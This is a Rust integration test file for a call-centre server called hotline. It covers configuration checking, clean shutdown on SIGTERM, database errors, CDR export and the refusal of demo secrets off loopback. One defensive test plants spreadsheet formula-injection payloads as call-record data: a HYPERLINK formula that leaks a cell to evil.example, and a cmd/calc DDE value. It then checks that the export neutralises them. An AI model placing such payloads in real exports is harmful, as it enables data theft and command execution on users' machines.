//! Command line: --version, check-config (valid file, misspelled key, bad
//! CIDR, several errors at once, bad ACD and queue options, missing prompts,
//! missing file), clean shutdown on SIGTERM, a database that cannot be
//! opened, and `cdr export` (its argument errors, filters and formats).

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::support::*;

fn default_config() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("config")
        .join("hotline.toml")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Writes the default configuration, edited by `edit`, into a temp dir.
fn edited_default(edit: impl Fn(String) -> String) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("edited.toml");
    let original = fs::read_to_string(default_config()).unwrap();
    let edited = edit(original.clone());
    assert_ne!(edited, original, "the edit changed nothing");
    fs::write(&path, edited).unwrap();
    (dir, path)
}

#[test]
fn version() {
    let out = run_hotline(&["--version"]);
    assert!(out.status.success(), "{out:?}");
    let stdout = text(&out.stdout);
    assert!(stdout.contains(env!("CARGO_PKG_VERSION")), "`{stdout}`");
    assert!(stdout.to_lowercase().contains("hotline"), "`{stdout}`");
}

#[test]
fn check_config_runs_anywhere_on_the_embedded_config_and_prompts() {
    let dir = tempfile::tempdir().unwrap();
    let out = output_within(
        hotline_command()
            .arg("check-config")
            .current_dir(dir.path()),
        Duration::from_secs(30),
    );
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{stdout}\n{}", text(&out.stderr));
    assert!(stdout.contains("embedded default config"), "{stdout}");
    let prompts = fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("prompts/en"))
        .unwrap()
        .count()
        * 2
        + 1;
    assert!(stdout.contains(&format!("{prompts} prompt(s)")), "{stdout}");
}

#[test]
fn check_config_accepts_the_default_file() {
    let path = default_config();
    let out = run_hotline(&["check-config", "--config", path.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "check-config on {} failed: {}\n{}",
        path.display(),
        text(&out.stdout),
        text(&out.stderr)
    );
    let stdout = text(&out.stdout);
    let lines: Vec<&str> = stdout.lines().filter(|l| !l.trim().is_empty()).collect();
    assert_eq!(
        lines.len(),
        1,
        "a one-line summary expected, got:\n{stdout}"
    );
}

#[test]
fn check_config_accepts_the_test_configs() {
    // The files the other tests write must be valid, with every knob used.
    let dir = tempfile::tempdir().unwrap();
    let cfg = TestConfig::new()
        .algorithms(&["SHA-256", "MD5"])
        .min_expires("1s")
        .nonce_ttl("2s")
        .max_failures(2)
        .default_expires("30m")
        .answer_after("401", "3s")
        .trunk(
            "carrier",
            &["127.0.0.2/32"],
            Some(("carrier", "secret")),
            &["401"],
        )
        .http(true);
    let path = dir.path().join("test.toml");
    fs::write(&path, cfg.render(free_port(), Some(free_port()))).unwrap();
    let out = run_hotline(&["check-config", "--config", path.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}\n{}\n--- file ---\n{}",
        text(&out.stdout),
        text(&out.stderr),
        fs::read_to_string(&path).unwrap()
    );
}

#[test]
fn check_config_names_a_misspelled_key_and_the_file() {
    let (_dir, path) = edited_default(|s| {
        s.replacen(
            "listen = \"127.0.0.1:8080\"",
            "lisen = \"127.0.0.1:8080\"",
            1,
        )
    });
    let out = run_hotline(&["check-config", "--config", path.to_str().unwrap()]);
    assert!(!out.status.success(), "a misspelled key was accepted");
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("lisen"),
        "stderr does not name the key `lisen`:\n{stderr}"
    );
    assert!(
        stderr.contains(path.to_str().unwrap()),
        "stderr does not name the file {}:\n{stderr}",
        path.display()
    );
}

#[test]
fn check_config_rejects_a_bad_cidr() {
    let (_dir, path) = edited_default(|s| {
        s.replacen(
            "sources = [\"127.0.0.0/8\"]",
            "sources = [\"127.0.0.0/33\"]",
            1,
        )
    });
    let out = run_hotline(&["check-config", "--config", path.to_str().unwrap()]);
    assert!(!out.status.success(), "127.0.0.0/33 was accepted");
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("trunks.local.sources"),
        "stderr does not name trunks.local.sources:\n{stderr}"
    );
    assert!(
        stderr.contains(path.to_str().unwrap()),
        "stderr does not name the file:\n{stderr}"
    );
}

#[test]
fn check_config_reports_every_invalid_value() {
    // A file that parses, with three values that do not validate.
    let (_dir, path) = edited_default(|s| {
        s.replacen(
            "sources = [\"127.0.0.0/8\"]",
            "sources = [\"not-a-network\"]",
            1,
        )
        .replacen("udp = \"127.0.0.1:5060\"", "udp = \"nowhere\"", 1)
        .replacen(
            "[registrar]",
            "[registrar]\nmin_expires = \"2h\"\nmax_expires = \"1h\"",
            1,
        )
    });
    let out = run_hotline(&["check-config", "--config", path.to_str().unwrap()]);
    assert!(!out.status.success());
    let stderr = text(&out.stderr);
    for key in ["trunks.local.sources", "sip.udp", "min_expires"] {
        assert!(
            stderr.contains(key),
            "stderr does not report `{key}`:\n{stderr}"
        );
    }
}

#[test]
fn check_config_reports_every_error() {
    // An unknown key, an invalid CIDR and a wrongly typed value at once.
    let (_dir, path) = edited_default(|s| {
        s.replacen(
            "listen = \"127.0.0.1:8080\"",
            "lisen = \"127.0.0.1:8080\"",
            1,
        )
        .replacen(
            "sources = [\"127.0.0.0/8\"]",
            "sources = [\"not-a-network\"]",
            1,
        )
        .replacen("[registrar]", "[registrar]\nmax_contacts = \"many\"", 1)
    });
    let out = run_hotline(&["check-config", "--config", path.to_str().unwrap()]);
    assert!(!out.status.success());
    let stderr = text(&out.stderr);
    for key in ["lisen", "trunks.local.sources", "max_contacts"] {
        assert!(
            stderr.contains(key),
            "stderr does not report `{key}`:\n{stderr}"
        );
    }
}

#[test]
fn check_config_names_bad_acd_and_queue_keys() {
    // A wrong strategy name (refused while reading) and an overflow to a
    // queue that does not exist (refused by validation): both are reported.
    let (_dir, path) = edited_default(|s| {
        s.replacen(
            "[queues.support]\n",
            "[queues.support]\nstrategy = \"fastest\"\noverflow = \"queue:nowhere\"\n",
            1,
        )
        .replacen("[acd]\n", "[acd]\nring_cycle = \"forever\"\n", 1)
    });
    let out = run_hotline(&["check-config", "--config", path.to_str().unwrap()]);
    assert!(!out.status.success());
    let stderr = text(&out.stderr);
    for key in [
        "queues.support.strategy",
        "queues.support.overflow",
        "acd.ring_cycle",
    ] {
        let line = stderr
            .lines()
            .find(|l| l.contains(&format!("key `{key}`")))
            .unwrap_or_else(|| panic!("stderr does not report `{key}`:\n{stderr}"));
        assert!(
            line.contains(path.to_str().unwrap()),
            "`{key}` reported without the file:\n{stderr}"
        );
    }
    assert!(stderr.contains("nowhere"), "{stderr}");
    assert_eq!(stderr.lines().count(), 3, "one line per problem:\n{stderr}");
}

#[test]
fn check_config_names_a_missing_overflow_prompt() {
    let (_dir, path) = edited_default(|s| {
        s.replacen(
            "[queues.sales]\n",
            "[queues.sales]\noverflow_prompt = \"sorry_closed\"\n",
            1,
        )
    });
    let out = run_hotline(&["check-config", "--config", path.to_str().unwrap()]);
    assert!(!out.status.success());
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("queues.sales.overflow_prompt") && stderr.contains("sorry_closed"),
        "{stderr}"
    );
}

#[test]
fn check_config_wants_the_prompts_the_queues_play() {
    // A prompt library without `position` and `digit_7`.
    let dir = tempfile::tempdir().unwrap();
    let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("prompts");
    for sub in ["en", "moh"] {
        fs::create_dir_all(dir.path().join(sub)).unwrap();
        for entry in fs::read_dir(shipped.join(sub)).unwrap() {
            let entry = entry.unwrap();
            let name = entry.file_name();
            if name != "position.wav" && name != "digit_7.wav" {
                fs::copy(entry.path(), dir.path().join(sub).join(&name)).unwrap();
            }
        }
    }
    let library = dir.path().display().to_string();
    let (_cfg, path) = edited_default(|s| {
        s.replacen(
            "[media]\n",
            &format!("[media]\nprompts = \"{}\"\n", library.replace('\\', "\\\\")),
            1,
        )
    });
    let out = run_hotline(&["check-config", "--config", path.to_str().unwrap()]);
    assert!(!out.status.success());
    let stderr = text(&out.stderr);
    assert!(stderr.contains("media.prompts"), "{stderr}");
    for name in ["position", "digit_7"] {
        assert!(stderr.contains(name), "`{name}` not reported:\n{stderr}");
    }
    assert!(!stderr.contains("digit_6"), "{stderr}");
}

#[test]
fn check_config_on_a_missing_file_fails() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("no-such-file.toml");
    let out = run_hotline(&["check-config", "--config", path.to_str().unwrap()]);
    assert!(!out.status.success());
    let stderr = text(&out.stderr);
    assert!(stderr.contains("no-such-file.toml"), "{stderr}");
}

#[test]
fn serve_refuses_an_invalid_config() {
    let (_dir, path) = edited_default(|s| {
        s.replacen(
            "listen = \"127.0.0.1:8080\"",
            "lisen = \"127.0.0.1:8080\"",
            1,
        )
    });
    let out = run_hotline(&["serve", "--config", path.to_str().unwrap()]);
    assert!(!out.status.success(), "serve started with a misspelled key");
    assert!(text(&out.stderr).contains("lisen"), "{}", text(&out.stderr));
}

// ---------------------------------------------------------------------------
// Shutdown

#[test]
fn sigterm_exits_cleanly() {
    let mut server = Server::start(TestConfig::new());
    UdpClient::new(&server).assert_options_ok("before SIGTERM");
    assert_clean_exit_on_sigterm(&mut server, Duration::from_secs(5));
}

/// SIGTERM, then asserts exit status 0 within `limit`.
fn assert_clean_exit_on_sigterm(server: &mut Server, limit: Duration) {
    server.sigterm();
    let status = server
        .wait_exit(limit)
        .unwrap_or_else(|| panic!("still running {limit:?} after SIGTERM\n{}", server.log()));
    assert_eq!(
        status.code(),
        Some(0),
        "exit status after SIGTERM: {status}\n{}",
        server.log()
    );
}

#[test]
fn sigterm_with_an_open_tcp_connection_exits_cleanly() {
    let mut server = Server::start(TestConfig::new());
    let mut tcp = TcpClient::connect(&server);
    let mut d = tcp.dialog();
    assert_status(&tcp.transact(&d.options()), 200, "OPTIONS over TCP");
    // the connection stays open
    assert_clean_exit_on_sigterm(&mut server, Duration::from_secs(5));
    drop(tcp);
}

/// Places a call to 401 over UDP from `udp`, acknowledges the answer and
/// waits until hotline has the ACK; returns the call's Call-ID.
fn answered_call(server: &Server, udp: &UdpClient) -> String {
    let mut call = udp.dialog();
    let sdp = format!(
        "v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio {} RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n",
        free_port()
    );
    let invite = call.request(
        "INVITE",
        &format!("sip:401@{}", server.sip_addr()),
        "401",
        &[
            format!("Contact: <sip:caller@{}>", udp.local()),
            "Content-Type: application/sdp".into(),
        ],
        &sdp,
    );
    let ok = udp.transact(&invite);
    assert_status(&ok, 200, "INVITE to 401");
    let to = ok.unwrap().header("To").unwrap().to_string();
    let via = invite
        .lines()
        .find(|l| l.starts_with("Via:"))
        .unwrap()
        .to_string();
    let old_branch = via
        .split("branch=")
        .nth(1)
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let ack = format!(
        "ACK sip:401@{} SIP/2.0\r\n{}\r\nMax-Forwards: 70\r\nFrom: <sip:401@127.0.0.1>;tag={}\r\nTo: {to}\r\nCall-ID: {}\r\nCSeq: {} ACK\r\nContent-Length: 0\r\n\r\n",
        server.sip_addr(),
        via.replace(&old_branch, &Dialog::branch()),
        call.from_tag,
        call.call_id,
        call.cseq
    );
    udp.send(ack);
    server.wait_event(
        &[
            "\"type\":\"call_answered\"",
            &format!("\"call_id\":\"{}\"", call.call_id),
        ],
        Duration::from_secs(5),
    );
    call.call_id
}

#[test]
fn sigterm_during_a_call_exits_cleanly() {
    // The caller answers the server's requests (a BYE on shutdown) with 200.
    let mut server = Server::start(TestConfig::new());
    let udp = UdpClient::new(&server);
    let call_id = answered_call(&server, &udp);
    let sock = udp.sock.try_clone().unwrap();
    let peer = std::thread::spawn(move || {
        let mut seen = Vec::new();
        let deadline = std::time::Instant::now() + Duration::from_secs(6);
        let mut buf = vec![0u8; 65536];
        sock.set_read_timeout(Some(Duration::from_millis(100)))
            .unwrap();
        while std::time::Instant::now() < deadline {
            let Ok((n, from)) = sock.recv_from(&mut buf) else {
                continue;
            };
            let Some(m) = SipMsg::parse(&buf[..n]) else {
                continue;
            };
            seen.push(m.clone());
            if let Some(method) = m.method() {
                if method != "ACK" {
                    let mut resp = String::from("SIP/2.0 200 OK\r\n");
                    for h in ["Via", "From", "To", "Call-ID", "CSeq"] {
                        for v in m.headers(h) {
                            resp.push_str(&format!("{h}: {v}\r\n"));
                        }
                    }
                    resp.push_str("Content-Length: 0\r\n\r\n");
                    let _ = sock.send_to(resp.as_bytes(), from);
                }
                if method == "BYE" {
                    break;
                }
            }
        }
        seen
    });
    let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        assert_clean_exit_on_sigterm(&mut server, Duration::from_secs(5))
    }));
    let seen = peer.join().unwrap();
    let start_lines: Vec<&str> = seen.iter().map(|m| m.start_line.as_str()).collect();
    if let Err(e) = result {
        eprintln!("the caller received: {start_lines:?}");
        std::panic::resume_unwind(e);
    }
    // Shutting down, hotline ended the call with a BYE to the caller.
    assert!(
        seen.iter()
            .any(|m| m.method() == Some("BYE") && m.header("Call-ID") == Some(call_id.as_str())),
        "no BYE for {call_id} reached the caller; it received: {start_lines:?}"
    );
}

#[test]
fn sigterm_during_a_call_with_a_silent_caller_exits_cleanly() {
    // The caller is gone: a BYE sent on shutdown is never answered. The exit
    // must still come within a few seconds (shutdown_grace is 1 s here).
    let mut server = Server::start(TestConfig::new());
    let udp = UdpClient::new(&server);
    answered_call(&server, &udp);
    assert_clean_exit_on_sigterm(&mut server, Duration::from_secs(5));
}

// ---------------------------------------------------------------------------
// The call database

#[test]
fn serve_fails_clearly_when_the_database_cannot_be_opened() {
    let dir = tempfile::tempdir().unwrap();
    let blocker = dir.path().join("a-file");
    fs::write(&blocker, "not a directory").unwrap();
    let db = blocker.join("hotline.db");
    let config =
        TestConfig::new().extra(&format!("[store]\npath = {:?}\n", db.display().to_string()));
    let path = dir.path().join("hotline.toml");
    fs::write(&path, config.render(free_port(), None)).unwrap();
    let out = run_hotline(&["serve", "--config", path.to_str().unwrap()]);
    let stderr = text(&out.stderr) + &text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("store.path"), "{stderr}");
    assert!(stderr.contains(&db.display().to_string()), "{stderr}");
}

#[test]
fn cdr_export_refuses_bad_arguments_with_usage_errors() {
    for (args, names) in [
        (
            vec!["--since", "yesterday"],
            vec!["--since", "yesterday", "RFC 3339"],
        ),
        (vec!["--until", "2026-13-40"], vec!["--until", "2026-13-40"]),
        (
            vec!["--format", "xml"],
            vec!["--format", "xml", "csv", "json"],
        ),
        (
            vec!["--since", "2026-11-24", "--until", "2026-11-23"],
            vec!["--since must be earlier than --until"],
        ),
        (vec!["--bogus"], vec!["--bogus"]),
    ] {
        let mut all = vec!["cdr", "export", "--db", "none.db"];
        all.extend(&args);
        let out = run_hotline(&all);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        for name in names {
            assert!(stderr.contains(name), "{args:?}: no `{name}` in {stderr}");
        }
        assert!(
            out.stdout.is_empty(),
            "{args:?} printed {}",
            text(&out.stdout)
        );
    }
}

#[test]
fn cdr_export_fails_with_the_reason_for_a_missing_or_foreign_database() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("missing.db");
    let out = run_hotline(&["cdr", "export", "--db", missing.to_str().unwrap()]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("no database at"), "{stderr}");
    assert!(stderr.contains(missing.to_str().unwrap()), "{stderr}");
    assert!(!missing.exists(), "the export created the file");

    let foreign = dir.path().join("foreign.db");
    rusqlite::Connection::open(&foreign)
        .unwrap()
        .execute_batch("CREATE TABLE t (x)")
        .unwrap();
    let out = run_hotline(&["cdr", "export", "--db", foreign.to_str().unwrap()]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("not a hotline database"), "{stderr}");

    // Without --db the configuration names the file.
    let config = dir.path().join("hotline.toml");
    fs::write(
        &config,
        format!("[store]\npath = {:?}\n", missing.display().to_string()),
    )
    .unwrap();
    let out = run_hotline(&["cdr", "export", "--config", config.to_str().unwrap()]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains(missing.to_str().unwrap()), "{stderr}");

    let out = run_hotline(&["cdr", "export", "--config", "no-such.toml"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).contains("no-such.toml"));
}

/// A database with three records ending at 09:59:59.999, 10:00:00 and
/// 11:00:00 UTC on 2026-11-23, one with a comma and quotes in a field.
fn three_records(dir: &Path) -> PathBuf {
    let path = dir.join("cdr.db");
    let conn = hotline::store::schema::open_for_writing(
        &path,
        hotline::store::schema::DEFAULT_BUSY_TIMEOUT,
    )
    .unwrap();
    let ten = 1_795_428_000_000i64;
    for (id, caller, ended, disposition, agent) in [
        ("a", "5550001", ten - 1, "abandoned", None),
        ("b", "Smith, \"Bob\"", ten, "answered", Some("1001")),
        ("c", "5550003", ten + 3_600_000, "rejected", None),
    ] {
        conn.execute(
            "INSERT INTO cdr (call_id, caller, agent, arrived_at, ended_at, disposition, late_answer)
             VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7)",
            rusqlite::params![id, caller, agent, ended - 5_000, ended, disposition, id == "b"],
        )
        .unwrap();
    }
    path
}

#[test]
fn cdr_export_filters_on_the_end_time_and_prints_csv_or_json_lines() {
    let dir = tempfile::tempdir().unwrap();
    let db = three_records(dir.path());
    let db = db.to_str().unwrap();
    let export = |extra: &[&str]| {
        let mut args = vec!["cdr", "export", "--db", db];
        args.extend(extra);
        let out = run_hotline(&args);
        assert!(out.status.success(), "{extra:?}: {}", text(&out.stderr));
        text(&out.stdout)
    };
    let csv = export(&[]);
    let lines: Vec<&str> = csv.split_terminator("\r\n").collect();
    assert_eq!(lines.len(), 4, "{csv}");
    assert!(
        lines[0].starts_with("call_id,trunk,caller,dialed,ivr_path,queue,agent,arrived_at,"),
        "{}",
        lines[0]
    );
    assert!(lines[0].ends_with(
        ",disposition,late_answer,recording,category,notes,\
         recording_started_at,recording_sha256,recording_ms,hold_periods,survey_score,end_reason"
    ));
    assert!(
        lines[1].starts_with("a,,5550001,,,,,2026-11-23T09:59:54.999Z,"),
        "{}",
        lines[1]
    );
    assert!(
        lines[2].starts_with("b,,\"Smith, \"\"Bob\"\"\",,,,1001,2026-11-23T09:59:55.000Z,"),
        "{}",
        lines[2]
    );
    assert!(lines[2].contains(",answered,true,,,"), "{}", lines[2]);

    // since inclusive, until exclusive, in each accepted form.
    for range in [
        [
            "--since",
            "2026-11-23T10:00:00Z",
            "--until",
            "2026-11-23T11:00:00Z",
        ],
        [
            "--since",
            "1795428000",
            "--until",
            "2026-11-23T12:00:00+01:00",
        ],
    ] {
        let csv = export(&range);
        let ids: Vec<&str> = csv
            .split_terminator("\r\n")
            .skip(1)
            .map(|l| l.split(',').next().unwrap())
            .collect();
        assert_eq!(ids, ["b"], "{range:?}");
    }
    let csv = export(&["--since", "2026-11-23"]);
    assert_eq!(csv.split_terminator("\r\n").count(), 4);
    let csv = export(&["--since", "2026-11-24"]);
    assert_eq!(csv.split_terminator("\r\n").count(), 1, "the header alone");

    let json = export(&["--format", "json", "--until", "2026-11-23T10:00:00.001Z"]);
    let rows: Vec<serde_json::Value> = json
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    assert_eq!(rows.len(), 2, "{json}");
    assert_eq!(rows[1]["call_id"], "b");
    assert_eq!(rows[1]["caller"], "Smith, \"Bob\"");
    assert_eq!(rows[1]["agent"], "1001");
    assert_eq!(rows[1]["ended_at"], "2026-11-23T10:00:00.000Z");
    assert_eq!(rows[1]["late_answer"], true);
    assert_eq!(rows[1]["talk_ms"], 0);
    assert_eq!(rows[0]["agent"], serde_json::Value::Null);
    assert!(
        json.lines()
            .next()
            .unwrap()
            .starts_with("{\"call_id\":\"a\",")
    );
}

#[test]
fn cdr_export_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("cdr.db");
    let conn = hotline::store::schema::open_for_writing(
        &path,
        hotline::store::schema::DEFAULT_BUSY_TIMEOUT,
    )
    .unwrap();
    let note = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
    conn.execute(
        "INSERT INTO cdr (call_id, caller, arrived_at, ended_at, disposition, category, notes)
         VALUES ('x', '+15550001', 1, 2, 'answered', '@SUM(1+1)', ?1),
                ('y', '+1+cmd|'' /C calc''!A0', 1, 3, 'answered', '', '')",
        [note],
    )
    .unwrap();
    drop(conn);
    let db = path.to_str().unwrap();
    let out = run_hotline(&["cdr", "export", "--db", db]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let csv = text(&out.stdout);
    let row = csv.split_terminator("\r\n").nth(1).unwrap();
    assert!(
        row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\""),
        "{row}"
    );
    // A number is no formula: callers in E.164 stay as they are.
    assert!(row.contains(",+15550001,"), "{row}");
    assert!(csv.contains(",'+1+cmd|' /C calc'!A0,"), "{csv}");
    assert!(row.contains(",'@SUM(1+1),"), "{row}");
    assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");

    // JSON lines keep the values as stored.
    let out = run_hotline(&["cdr", "export", "--db", db, "--format", "json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let first = text(&out.stdout)
        .lines()
        .next()
        .unwrap_or_default()
        .to_owned();
    let json: serde_json::Value = serde_json::from_str(&first).unwrap();
    assert_eq!(json["notes"], note);
    assert_eq!(json["caller"], "+15550001");
}

// ---------------------------------------------------------------------------
// Demo secrets

/// The demo configuration's API tokens, as written in the default file.
fn demo_tokens() -> String {
    let text = fs::read_to_string(default_config()).unwrap();
    let start = text.find("[api.tokens.demo-admin]").unwrap();
    let end = text.find("[monitor]").unwrap();
    text[start..end].to_string()
}

/// A test configuration holding the demo passwords and tokens, with its
/// HTTP listener on every interface; `extra` is appended.
fn exposed_demo_config(dir: &Path, http_port: u16, extra: &str) -> PathBuf {
    let config = TestConfig::new()
        .http(true)
        .extra(&format!("[api]\n{}\n{extra}", demo_tokens()));
    let text = config.render(free_port(), Some(http_port)).replace(
        &format!("listen = \"127.0.0.1:{http_port}\""),
        &format!("listen = \"0.0.0.0:{http_port}\""),
    );
    assert!(text.contains("0.0.0.0"), "{text}");
    let path = dir.join("hotline.toml");
    fs::write(&path, text).unwrap();
    path
}

#[test]
fn serve_refuses_demo_secrets_off_loopback_naming_every_key() {
    let dir = tempfile::tempdir().unwrap();
    let path = exposed_demo_config(dir.path(), free_port(), "");
    for command in ["serve", "check-config"] {
        let out = run_hotline(&[command, "--config", path.to_str().unwrap()]);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{command}: {stderr}");
        for key in [
            "http.listen",
            "agents.1001.password",
            "agents.1004.password",
            "api.tokens.demo-admin.sha256",
            "api.tokens.demo-supervisor.sha256",
            "api.tokens.demo-agent-1001.sha256",
            "allow_demo_credentials",
        ] {
            assert!(stderr.contains(key), "{command}: {key} not named: {stderr}");
        }
    }
    // The same secrets on loopback only: the demo runs.
    let out = run_hotline(&[
        "check-config",
        "--config",
        default_config().to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    // Off loopback with the secrets replaced by the environment: it runs.
    let mut cmd = hotline_command();
    cmd.args(["check-config", "--config", path.to_str().unwrap()]);
    for id in 1001..=1004 {
        cmd.env(
            format!("HOTLINE__AGENTS__{id}__PASSWORD"),
            format!("own-{id}-secret"),
        );
    }
    let stripped = fs::read_to_string(&path)
        .unwrap()
        .replace(&demo_tokens(), "");
    fs::write(&path, stripped).unwrap();
    let out = output_within(&mut cmd, Duration::from_secs(30));
    assert!(out.status.success(), "{}", text(&out.stderr));
}

#[test]
fn serve_runs_demo_secrets_off_loopback_when_explicitly_allowed() {
    let dir = tempfile::tempdir().unwrap();
    let http_port = free_port();
    let path = exposed_demo_config(
        dir.path(),
        http_port,
        "[demo]\nallow_demo_credentials = true\n",
    );
    let mut child = hotline_command()
        .args(["serve", "--config", path.to_str().unwrap()])
        .current_dir(dir.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    let mut up = false;
    while std::time::Instant::now() < deadline {
        if let Some(status) = child.try_wait().unwrap() {
            panic!("hotline exited: {status}");
        }
        if std::net::TcpStream::connect(("127.0.0.1", http_port)).is_ok() {
            up = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let health = up.then(|| http_get(http_port, "/healthz"));
    // Stops the process this test started, by its PID.
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(health.as_deref(), Some("ok\n"));
}

#[test]
fn the_demo_balance_service_is_served_only_when_enabled() {
    let server = Server::start(TestConfig::new().http(true));
    let port = server.http_port.unwrap();
    let (status, _) = http_request(
        port,
        "GET",
        "/demo/balance?account=1001&pin=1234",
        None,
        None,
    );
    assert_eq!(status, 404, "served without [demo] balance_service");
    let server = Server::start(
        TestConfig::new()
            .http(true)
            .extra("[demo]\nbalance_service = true\n"),
    );
    let port = server.http_port.unwrap();
    let (status, body) = http_request(
        port,
        "GET",
        "/demo/balance?account=1001&pin=1234",
        None,
        None,
    );
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("250.75"), "{body}");
}
